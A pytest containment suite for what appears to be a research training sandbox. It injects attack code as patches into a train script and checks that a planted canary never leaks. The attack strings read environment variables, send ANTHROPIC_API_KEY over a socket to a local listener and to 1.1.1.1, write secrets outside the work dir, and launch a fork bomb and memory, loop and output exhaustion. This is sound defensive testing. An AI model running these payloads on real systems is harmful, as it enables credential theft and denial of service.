"""The sandbox attacks again, this time as patches to the tiny task's train script, run end to end
through trainer.experiment.run_experiment (the path a reproduced claim takes).

    .venv/bin/python -m pytest tests/trainer/test_containment.py -q

Every attack must end crashed or contained: the canary planted in our environment appears nowhere
(result, reason, files), nothing outside the work dir is written, nothing reaches our listener, and
no process of the run is left.
"""
from __future__ import annotations

import secrets
import socket
import tempfile
import shutil
import time
from pathlib import Path

import pytest

experiment = pytest.importorskip("trainer.experiment", reason="trainer.experiment not built yet")
from trainer.patches import apply_patch, make_patch  # noqa: E402
from trainer.tasks import resolve_task  # noqa: E402
from trainer import sandbox, warm  # noqa: E402
from tests.procs import processes_with  # noqa: E402
from tests.timing import PROCESS_SLACK_S  # noqa: E402

pytestmark = [pytest.mark.timeout(300), pytest.mark.slow]  # every test trains an attacked script: 4-8 s each
REPO = Path(__file__).resolve().parents[2]
BUDGET_SCALE = 0.02
ATTACK_TIMEOUT_S = 8
# run_experiment's own bound on a run that hits its timeout: the deadline (from the job's hand-over), then
# the kill: the harness gets EXIT_GRACE_S at most to be gone, its pipes PIPE_LINGER_S
ATTACK_BOUND_S = ATTACK_TIMEOUT_S + warm.EXIT_GRACE_S + sandbox.PIPE_LINGER_S + PROCESS_SLACK_S
ANCHOR = "import torch.nn.functional as F\n"


@pytest.fixture(scope="module")
def task():
    return resolve_task("tiny")


@pytest.fixture(scope="module")
def cache_dir():
    d = Path(tempfile.mkdtemp(prefix="rs-containment-cache-"))
    d.chmod(0o755)
    yield d
    shutil.rmtree(d, ignore_errors=True)


@pytest.fixture
def work_dir():
    d = Path(tempfile.mkdtemp(prefix="rs-containment-"))
    d.chmod(0o755)
    yield d
    shutil.rmtree(d, ignore_errors=True)


def attacked_source(task, attack: str) -> str:
    """The baseline with `attack` run at import time, delivered as a patch, the way claims carry code."""
    baseline = task.body["source"]
    assert ANCHOR in baseline
    evil = baseline.replace(ANCHOR, ANCHOR + attack + "\n", 1)
    return apply_patch(baseline, make_patch(baseline, evil))


def run(task, source, work_dir, cache_dir, timeout_s=120):
    return experiment.run_experiment(task, source, seed=0, budget_scale=BUDGET_SCALE, device="cpu",
                                     timeout_s=timeout_s, work_dir=work_dir, cache_dir=cache_dir)


def assert_contained(value: str, outcome, work_dir: Path) -> None:
    assert value not in repr(outcome.result) and value not in str(outcome.reason)
    for path in work_dir.rglob("*"):
        if path.is_file() and not path.is_symlink():
            assert value.encode() not in path.read_bytes(), path


def test_env_snooping_patch_leaks_nothing(task, work_dir, cache_dir, canary):
    attack = ("import os as _os\nprint(dict(_os.environ))\n"
              "open('stolen.txt', 'w').write(repr(dict(_os.environ)))\n")
    outcome = run(task, attacked_source(task, attack), work_dir, cache_dir)
    assert outcome.sandbox in ("bwrap", "namespaces", "none")
    assert_contained(canary, outcome, work_dir)


def test_network_patch_reaches_nothing(task, work_dir, cache_dir, canary):
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        listener.setblocking(False)
        port = listener.getsockname()[1]
        attack = (f"import socket as _s, os as _os\nfor _t in [('127.0.0.1', {port}), ('1.1.1.1', 443)]:\n"
                  "    try:\n        _c = _s.create_connection(_t, timeout=2)\n"
                  "        _c.sendall(_os.environ.get('ANTHROPIC_API_KEY', '').encode())\n"
                  "    except OSError:\n        pass\n")
        outcome = run(task, attacked_source(task, attack), work_dir, cache_dir)
        if outcome.sandbox != "none":
            with pytest.raises(BlockingIOError):
                listener.accept()
    assert_contained(canary, outcome, work_dir)


def test_writing_outside_patch_leaves_nothing(task, work_dir, cache_dir, canary):
    token = secrets.token_hex(6)
    targets = [REPO / f"escape-{token}", Path("/root") / f"escape-{token}", Path("/tmp") / f"escape-{token}"]
    attack = "import os as _os\n" + "".join(
        f"try:\n    open({str(t)!r}, 'w').write(_os.environ.get('ANTHROPIC_API_KEY', 'x'))\nexcept OSError:\n    pass\n"
        for t in targets)
    try:
        outcome = run(task, attacked_source(task, attack), work_dir, cache_dir)
        for t in targets:
            if outcome.sandbox == "none" and str(t).startswith("/tmp"):
                continue  # world-writable, and "none" promises no filesystem isolation
            assert not t.exists(), t
        assert_contained(canary, outcome, work_dir)
    finally:
        for t in targets:
            t.unlink(missing_ok=True)


def test_fork_bomb_patch_crashes_and_leaves_no_process(task, work_dir, cache_dir, canary):
    marker = "bomb-" + secrets.token_hex(8)
    attack = ("import os as _os, sys as _sys\n"
              "_bomb = 'import os\\nwhile True:\\n    try: os.fork()\\n    except OSError: pass\\n'\n"
              f"_os.execv(_sys.executable, [_sys.executable, '-c', _bomb, {marker!r}])\n")
    start = time.monotonic()
    outcome = run(task, attacked_source(task, attack), work_dir, cache_dir, timeout_s=ATTACK_TIMEOUT_S)
    assert time.monotonic() - start < ATTACK_BOUND_S
    assert not outcome.outcome_ok and outcome.reason
    assert processes_with(marker) == []
    assert_contained(canary, outcome, work_dir)


@pytest.mark.parametrize("attack", [
    "_hog = []\nwhile True:\n    _hog.append(bytearray(64 << 20))\n",   # unbounded allocation
    "while True:\n    pass\n",                                            # infinite loop
    "import sys as _sys\nwhile True:\n    _sys.stdout.write('z' * 65536)\n",  # endless output
], ids=["memory", "loop", "output"])
def test_resource_attacks_crash_within_the_timeout(task, work_dir, cache_dir, canary, attack):
    start = time.monotonic()
    outcome = run(task, attacked_source(task, attack), work_dir, cache_dir, timeout_s=ATTACK_TIMEOUT_S)
    assert time.monotonic() - start < ATTACK_BOUND_S
    assert not outcome.outcome_ok and outcome.result is None and outcome.reason
    assert_contained(canary, outcome, work_dir)
